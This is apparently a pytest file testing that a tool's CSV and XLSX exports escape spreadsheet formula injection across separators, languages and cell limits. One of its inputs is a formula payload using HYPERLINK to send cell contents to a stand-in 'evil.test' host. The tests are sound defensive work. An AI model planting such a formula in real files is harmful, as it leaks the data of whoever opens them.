"""No text of an export is calculated by whoever opens it, and none is lost."""

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from jejak_kit.exports.column import Cell
from jejak_kit.exports.csv_lines import SEPARATORS, CsvLines, Separator, separator_of
from jejak_kit.exports.xlsx_book import XlsxBook

FORMULA = '=HYPERLINK("http://evil.test?"&A1;"klik")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (FORMULA, "'" + FORMULA.replace(';"', ';"')),
        ("+62812", "'+62812"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\n'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("baik;=1+1", "baik;'=1+1"),
        ("baik, -1", "baik, '-1"),
        ('baik"\n=1+1', "baik\"\n'=1+1"),
        ("baik|+1", "baik|'+1"),
        ("a-b, c=d", "a-b, c=d"),
    ],
    ids=repr,
)
def test_no_text_is_calculated(text: str, written: str, tmp_path: Path) -> None:
    for separator, mark in SEPARATORS.items():
        assert read(CsvLines(separator).lines([[text, -5]]), mark) == [[written, "-5"]], "a number is no text"
    found = book(tmp_path, [text, -5])[0]
    assert (found[0].data_type, str(found[0].value).replace("_x000D_", "\r"), found[1].value) == ("s", text, -5)
    assert found[0].quotePrefix or text[0] in "ab"


@pytest.mark.parametrize("opened_with", SEPARATORS.values())
@pytest.mark.parametrize("written_with", SEPARATORS)
def test_a_file_opened_with_the_wrong_separator_calculates_nothing_either(
    written_with: Separator, opened_with: str
) -> None:
    line = CsvLines(written_with).lines([["a;=1+1", "b,=1+1", 'c";=1+1', 'd",@x', "e\t+1", "f;;=1"]])
    assert not [cell for row in read(line, opened_with) for cell in row if cell.lstrip(" ")[:1] in {*"=+-@"}]


def test_what_a_sheet_cannot_hold_is_cut_or_written_as_text(tmp_path: Path) -> None:
    long, whole, exact = book(tmp_path, ["x" * 40_000, 10**15, 10**15 - 1])[0]
    assert (len(long.value), long.value[-1]) == (32_767, "…")
    assert (whole.value, exact.value) == (str(10**15), 10**15 - 1)


def test_texts_survive_as_they_are() -> None:
    texts = ["Jalan Melati; RT 01, RW 02", 'PT "Sinar"', "baris 1\nbaris 2", "a-b=c", "日本", "https://a.test"]
    assert read(CsvLines("semicolon").lines([texts]), ";") == [texts]


def test_the_separator_follows_the_language() -> None:
    assert (separator_of("id"), separator_of("en")) == ("semicolon", "comma")


def read(line: bytes, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(line.decode(), newline=""), delimiter=separator))


def book(folder: Path, *rows: list[Cell]) -> list[tuple[openpyxl.cell.Cell, ...]]:
    file = io.BytesIO()
    made = XlsxBook(file, folder, "wares", ["A"])
    made.add(rows)
    made.close()
    return list(openpyxl.load_workbook(file).active.rows)[1:]
